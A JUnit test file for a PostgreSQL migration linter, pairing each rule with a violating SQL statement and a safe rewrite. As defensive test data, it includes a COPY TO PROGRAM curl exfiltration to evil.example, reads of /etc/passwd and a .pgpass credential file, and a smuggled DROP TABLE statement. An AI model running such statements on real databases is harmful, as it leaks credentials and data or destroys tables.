package com.logicore.dbp.approval.lint;

import static org.assertj.core.api.Assertions.assertThat;

import com.logicore.dbp.events.payload.Finding;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Every rule fires on a realistic violating migration and stays quiet on its safe rewrite. */
class MigrationLinterTest {

    private static final Set<String> ROUTING = Set.of("routing");
    private final MigrationLinter linter = new MigrationLinter();

    static Stream<Arguments> rules() {
        return Stream.of(
                Arguments.of(
                        "security.copy",
                        "COPY routing.stops TO PROGRAM 'curl -d @- evil.example'",
                        "INSERT INTO routing.stops_archive SELECT * FROM routing.stops WHERE route_id < 10"),
                Arguments.of(
                        "security.alter-system",
                        "ALTER SYSTEM SET max_connections = 1000",
                        "ALTER TABLE stops ADD COLUMN note text"),
                Arguments.of(
                        "security.extension",
                        "CREATE EXTENSION IF NOT EXISTS postgis",
                        "CREATE TABLE zones (id bigint)"),
                Arguments.of(
                        "security.grant-revoke",
                        "GRANT SELECT ON routing.stops TO analytics",
                        "COMMENT ON TABLE stops IS 'planned stops'"),
                Arguments.of(
                        "security.role",
                        "CREATE ROLE reporting LOGIN PASSWORD 'x'",
                        "CREATE TABLE reporting (id bigint)"),
                Arguments.of("security.set-role", "SET ROLE postgres", "SET lock_timeout = '2s'"),
                Arguments.of(
                        "security.search-path", "SET search_path TO deliveries, routing", "SET search_path TO routing"),
                Arguments.of(
                        "security.foreign-schema",
                        "ALTER TABLE deliveries.deliveries ADD COLUMN route_code text",
                        "ALTER TABLE routing.routes ADD COLUMN route_code text"),
                Arguments.of(
                        "security.security-definer",
                        "CREATE FUNCTION routing.route_count() RETURNS bigint LANGUAGE sql SECURITY DEFINER AS $$ SELECT count(*) FROM routing.routes $$",
                        "CREATE FUNCTION routing.route_count() RETURNS bigint LANGUAGE sql SECURITY DEFINER SET search_path = routing, pg_temp AS $$ SELECT count(*) FROM routing.routes $$"),
                Arguments.of(
                        "security.dynamic-sql",
                        "DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'routes'; END $$",
                        "DO $$ BEGIN RAISE NOTICE 'execute later'; END $$"),
                Arguments.of(
                        "security.server-files",
                        "SELECT pg_read_file('/etc/passwd')",
                        "SELECT 'pg_read_file(x)' AS note"),
                Arguments.of(
                        "security.large-object",
                        "SELECT lo_import('/var/lib/postgresql/.pgpass')",
                        "SELECT length('lo_import')"),
                Arguments.of(
                        "security.foreign-data",
                        "SELECT * FROM dblink('host=prod', 'SELECT 1') AS t(x int)",
                        "SELECT * FROM routing.routes"),
                Arguments.of(
                        "security.event-trigger",
                        "CREATE EVENT TRIGGER audit ON ddl_command_end EXECUTE FUNCTION routing.audit()",
                        "CREATE TRIGGER audit AFTER UPDATE ON stops FOR EACH ROW EXECUTE FUNCTION routing.audit()"),
                Arguments.of("lint.unclassified", "FROBNICATE routing.stops", "ANALYZE stops"),
                Arguments.of(
                        "lint.opaque-body",
                        "CREATE FUNCTION routing.f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$",
                        "CREATE VIEW routing.open_routes AS SELECT * FROM routing.routes WHERE status = 'planned'"),
                Arguments.of(
                        "index.not-concurrent",
                        "CREATE INDEX stops_arrival_idx ON routing.stops (planned_arrival)",
                        "CREATE INDEX CONCURRENTLY stops_arrival_idx ON routing.stops (planned_arrival)"),
                Arguments.of(
                        "index.drop-not-concurrent",
                        "DROP INDEX routing.stops_arrival_idx",
                        "DROP INDEX CONCURRENTLY routing.stops_arrival_idx"),
                Arguments.of(
                        "index.concurrently-in-transaction",
                        "BEGIN; CREATE INDEX CONCURRENTLY stops_seq_idx ON stops (seq); COMMIT",
                        "CREATE INDEX CONCURRENTLY stops_seq_idx ON stops (seq)"),
                Arguments.of(
                        "constraint.not-valid-missing",
                        "ALTER TABLE stops ADD CONSTRAINT stops_route_fk FOREIGN KEY (route_id) REFERENCES routes (id)",
                        "ALTER TABLE stops ADD CONSTRAINT stops_route_fk FOREIGN KEY (route_id) REFERENCES routes (id) NOT VALID"),
                Arguments.of(
                        "constraint.unique-without-index",
                        "ALTER TABLE routes ADD CONSTRAINT routes_code_key UNIQUE (code)",
                        "ALTER TABLE routes ADD CONSTRAINT routes_code_key UNIQUE USING INDEX routes_code_idx"),
                Arguments.of(
                        "column.set-not-null",
                        "ALTER TABLE stops ALTER COLUMN actual_arrival SET NOT NULL",
                        "ALTER TABLE stops ADD CONSTRAINT stops_arrival_nn CHECK (actual_arrival IS NOT NULL) NOT VALID"),
                Arguments.of(
                        "column.required-without-default",
                        "ALTER TABLE routes ADD COLUMN region text NOT NULL",
                        "ALTER TABLE routes ADD COLUMN region text NOT NULL DEFAULT 'DE'"),
                Arguments.of(
                        "column.volatile-default",
                        "ALTER TABLE stops ADD COLUMN external_id uuid DEFAULT gen_random_uuid()",
                        "ALTER TABLE stops ADD COLUMN created_at timestamptz DEFAULT now()"),
                Arguments.of(
                        "column.type-change",
                        "ALTER TABLE stops ALTER COLUMN id TYPE bigint",
                        "ALTER TABLE stops ALTER COLUMN id SET STATISTICS 500"),
                Arguments.of(
                        "rename.table",
                        "ALTER TABLE routes RENAME TO tours",
                        "ALTER TABLE routes ADD COLUMN tour_code text"),
                Arguments.of(
                        "rename.column",
                        "ALTER TABLE stops RENAME COLUMN seq TO position",
                        "ALTER TABLE stops ADD COLUMN position integer"),
                Arguments.of(
                        "drop.table",
                        "DROP TABLE routing.routes_old",
                        "ALTER TABLE routes_old RENAME TO routes_old_unused"),
                Arguments.of(
                        "drop.column",
                        "ALTER TABLE stops DROP COLUMN address",
                        "ALTER TABLE stops ALTER COLUMN address SET DEFAULT ''"),
                Arguments.of(
                        "drop.not-null",
                        "ALTER TABLE stops ALTER COLUMN address DROP NOT NULL",
                        "ALTER TABLE stops ALTER COLUMN address DROP DEFAULT"),
                Arguments.of("truncate.cascade", "TRUNCATE routes CASCADE", "TRUNCATE stops_staging"),
                Arguments.of("rewrite.full-table", "VACUUM FULL stops", "VACUUM (ANALYZE) stops"),
                Arguments.of(
                        "domain.check-constraint",
                        "CREATE DOMAIN routing.postal_code AS text CHECK (VALUE ~ '^[0-9]{5}$')",
                        "CREATE DOMAIN routing.postal_code AS text"),
                Arguments.of(
                        "enum.add-value",
                        "ALTER TYPE routing.route_status ADD VALUE 'paused' BEFORE 'completed'",
                        "ALTER TYPE routing.route_status RENAME TO route_state"),
                Arguments.of(
                        "data.unbounded-dml",
                        "UPDATE stops SET address = trim(address)",
                        "UPDATE stops SET address = trim(address) WHERE route_id BETWEEN 1 AND 500"),
                Arguments.of(
                        "identifier.too-long",
                        "CREATE TABLE this_is_a_really_long_table_name_that_postgres_would_truncate_silently (id bigint)",
                        "CREATE TABLE depot_zones (id bigint)"),
                Arguments.of(
                        "type.int-primary-key",
                        "CREATE TABLE zones (id serial PRIMARY KEY, name text)",
                        "CREATE TABLE zones (id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY, name text)"),
                Arguments.of(
                        "type.prefer-text",
                        "CREATE TABLE zones (id bigint, name varchar(40))",
                        "CREATE TABLE zones (id bigint, name text)"),
                Arguments.of(
                        "type.prefer-timestamptz",
                        "ALTER TABLE stops ADD COLUMN departed_at timestamp",
                        "ALTER TABLE stops ADD COLUMN departed_at timestamptz"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("rules")
    void ruleFiresOnTheViolationAndNotOnTheSafeRewrite(String ruleId, String violating, String safe) {
        assertThat(ids(violating)).as("violating: " + violating).contains(ruleId);
        assertThat(ids(safe)).as("safe: " + safe).doesNotContain(ruleId);
    }

    @Test
    void everyRuleHasAnExample() {
        List<String> covered = rules().map(a -> (String) a.get()[0]).toList();
        assertThat(covered)
                .containsAll(LintRules.all().stream().map(LintRule::id).toList());
    }

    @Test
    void splitterKeepsStringsCommentsAndDollarBodiesTogether() {
        String script =
                """
                -- a comment; with a semicolon
                CREATE FUNCTION routing.touch() RETURNS trigger LANGUAGE plpgsql AS $body$
                BEGIN NEW.updated_at := now(); RETURN NEW; END
                $body$;
                /* outer /* nested; */ still comment; */
                INSERT INTO notes VALUES ('it''s; fine', E'tab\\t; and \\' quote', "odd;name");
                SELECT $1::text;""";
        var statements = SqlScriptSplitter.split(script);
        assertThat(statements).hasSize(3);
        assertThat(statements.get(1).line()).isEqualTo(6);
        assertThat(statements.get(1).tokens())
                .filteredOn(t -> t.type() == Token.Type.STRING)
                .extracting(Token::text)
                .containsExactly("it's; fine", "tab\t; and ' quote");
    }

    @Test
    void unreadableScriptsAndSmuggledStatementsAreBlockers() {
        assertThat(ids("SELECT 'unterminated")).containsExactly("lint.unreadable");
        var findings = linter.lintSingleStatement("SELECT * FROM stops; DROP TABLE stops", "payload.sql", ROUTING);
        assertThat(findings.get(0).code()).isEqualTo("security.smuggling");
        assertThat(findings.get(0).severity()).isEqualTo(Finding.Severity.BLOCKER);
    }

    @Test
    void fromInsideAFunctionCallIsNotATableButASubqueryInsideOneIs() {
        assertThat(ids("SELECT extract(year FROM d.created_at), substring(d.name FROM 2) FROM routing.stops d"))
                .doesNotContain("security.foreign-schema");
        assertThat(ids("SELECT substring((SELECT customer_name FROM deliveries.deliveries LIMIT 1) FROM 1)"))
                .contains("security.foreign-schema");
        assertThat(TouchedTables.read(
                        "WITH late AS (SELECT * FROM stops WHERE eta < now()) SELECT extract(hour FROM l.eta)"
                                + " FROM late l JOIN routing.routes r ON r.id = l.route_id"
                                + " WHERE EXISTS (SELECT 1 FROM deliveries.deliveries x WHERE x.stop_id = l.id)",
                        "routing"))
                .containsExactly("routing.stops", "routing.routes", "deliveries.deliveries");
    }

    @Test
    void queriesAreReadWithJsqlparserWhereItCanAndByTokensWhereItCannot() {
        var joined = ReadQuery.of(
                "WITH late AS (SELECT * FROM stops WHERE eta < now()) SELECT extract(hour FROM l.eta)"
                        + " FROM late l JOIN routing.routes r ON r.id = l.route_id"
                        + " WHERE EXISTS (SELECT 1 FROM deliveries.deliveries x WHERE x.stop_id = l.id)",
                "routing");
        assertThat(joined.parsedBy()).isEqualTo("jsqlparser");
        assertThat(joined.readOnly()).isTrue();
        assertThat(joined.tables())
                .containsExactlyInAnyOrder("routing.stops", "routing.routes", "deliveries.deliveries");
        var deleting = ReadQuery.of("WITH gone AS (DELETE FROM stops RETURNING *) SELECT * FROM gone", "routing");
        assertThat(deleting.readOnly()).isFalse();
        assertThat(ReadQuery.of("SELECT * FROM stops FOR UPDATE", "routing").readOnly())
                .isFalse();
        assertThat(ReadQuery.of("SELECT 'please delete me' AS note FROM stops", "routing")
                        .readOnly())
                .isTrue();
        assertThat(ReadQuery.of("UPDATE stops SET seq = 1", "routing").readOnly())
                .isFalse();
    }

    @Test
    void newTablesAreExemptFromLockRules() {
        assertThat(
                        ids(
                                "CREATE TABLE zones (id bigint PRIMARY KEY, depot text); CREATE INDEX zones_depot_idx ON zones (depot)"))
                .doesNotContain("index.not-concurrent");
    }

    @Test
    void findingsSayWhereAndWhatToDoInstead() {
        var finding = linter
                .lintScript("ALTER TABLE stops\n  ALTER COLUMN id TYPE bigint", "payload.migrations[0].sql", ROUTING)
                .stream()
                .filter(f -> f.code().equals("column.type-change"))
                .findFirst()
                .orElseThrow();
        assertThat(finding.message()).startsWith("statement 1 (line 1").contains("Instead: add a new column");
        assertThat(finding.field()).isEqualTo("payload.migrations[0].sql");
    }

    private List<String> ids(String sql) {
        return linter.lintScript(sql, "payload.migrations[0].sql", ROUTING).stream()
                .map(Finding::code)
                .toList();
    }
}
